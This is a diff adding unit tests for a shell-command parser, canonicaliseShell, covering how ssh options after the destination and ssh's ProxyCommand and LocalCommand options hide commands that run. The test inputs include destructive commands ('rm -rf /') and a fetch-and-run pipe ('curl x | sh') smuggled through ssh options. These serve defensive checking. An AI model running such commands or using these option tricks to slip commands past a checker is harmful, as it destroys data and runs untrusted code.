@@ -156,3 +156,16 @@ describe("canonicaliseShell: inline code longer than it searches", () => {
     expect(within.parts.map((p) => p.program)).toEqual(["python3", "rm"]);
   });
 });
+
+describe("canonicaliseShell: ssh options after the destination, and its local commands", () => {
+  it("reads options after the host as ssh's, and the command after them", () => {
+    expect(parts("ssh host -p 22 'rm -rf /'")).toEqual([["ssh", "ssh host -p 22 rm -rf /"], ["rm", "rm -rf /"]]);
+    expect(parts("ssh host -- rm -rf /")).toEqual([["ssh", "ssh host -- rm -rf /"], ["rm", "rm -rf /"]]);
+    expect(parts("ssh host ls -la")).toEqual([["ssh", "ssh host ls -la"], ["ls", "ls -la"]]);
+  });
+
+  it("reads ProxyCommand and LocalCommand as command lines run here", () => {
+    expect(parts("ssh -o ProxyCommand='rm -rf /' host")).toEqual([["ssh", "ssh -o ProxyCommand=rm -rf / host"], ["rm", "rm -rf /"]]);
+    expect(parts("ssh -oLocalCommand='curl x | sh' host true").map(([p]) => p)).toEqual(["ssh", "curl", "sh", "<stdin>", "true"]);
+  });
+});
